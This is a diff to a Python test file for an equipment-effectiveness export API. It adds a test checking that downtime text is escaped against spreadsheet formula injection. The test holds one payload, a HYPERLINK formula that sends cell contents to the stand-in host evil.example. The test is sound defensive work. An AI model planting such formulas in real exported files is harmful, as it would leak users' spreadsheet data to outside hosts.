@@ -11,17 +11,19 @@ from pathlib import Path
 import duckdb
 import jsonschema
 import openpyxl
+import psycopg
 import pyarrow as pa
 import pyarrow.parquet as pq
 from fastapi.testclient import TestClient
 
-from oee_pipelines.exports.columns import DATA_MART, SNAPSHOTS
+from oee_pipelines.exports.columns import DATA_MART, DOWNTIME, SNAPSHOTS
 
 SEED_COLUMNS = [
     "snapshot_time", "machine_id", "machine_name", "oee_pct", "availability_pct", "performance_pct",
     "quality_pct", "shift_id",
 ]  # fmt: skip
 THIRTY_DAYS = {"date_from": "2025-01-01", "date_to": "2025-01-30"}
+DOWNTIME_COLUMNS = DOWNTIME.column_names
 
 
 def csv_rows(text: str) -> list[list[str]]:
@@ -254,3 +256,37 @@ def test_health_and_docs(client: TestClient) -> None:
         "include_headers",
     }
     assert params["date_from"]["schema"]["examples"] == ["2025-01-01"]
+
+
+HOSTILE_DESCRIPTION = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+def test_downtime_text_cannot_become_an_excel_formula(
+    client: TestClient, acme: dict, database_url: str
+) -> None:
+    with psycopg.connect(database_url, autocommit=True) as conn:
+        conn.execute(
+            """INSERT INTO oee_downtime_events (org_id, machine_id, line_id, start_time, duration_minutes,
+                   is_planned, reason_code, description, source_system)
+               VALUES ('acme', 'MACHINE-A01', 'LINE-A1', '2025-06-15T10:00Z', 1, false, '-2+3', %s,
+                       'import')""",
+            (HOSTILE_DESCRIPTION,),
+        )
+    try:
+        day = {"date_from": "2025-06-15", "date_to": "2025-06-15"}
+        text = client.get("/api/oee/export/downtime", params={**day, "format": "csv"}, headers=acme).text
+        row = csv_rows(text)[1]
+        assert row[DOWNTIME_COLUMNS.index("description")] == "'" + HOSTILE_DESCRIPTION
+        assert row[DOWNTIME_COLUMNS.index("reason_code")] == "'-2+3"
+        workbook = client.get(
+            "/api/oee/export/downtime", params={**day, "format": "xlsx"}, headers=acme
+        ).content
+        cell = openpyxl.load_workbook(io.BytesIO(workbook)).active.cell(
+            row=2, column=DOWNTIME_COLUMNS.index("description") + 1
+        )
+        assert (cell.value, cell.data_type) == (HOSTILE_DESCRIPTION, "s")
+        rows = client.get("/api/oee/export/downtime", params={**day, "format": "json"}, headers=acme).json()
+        assert rows[0]["description"] == HOSTILE_DESCRIPTION  # JSON is data: unchanged
+    finally:
+        with psycopg.connect(database_url, autocommit=True) as conn:
+            conn.execute("DELETE FROM oee_downtime_events WHERE start_time = '2025-06-15T10:00Z'")
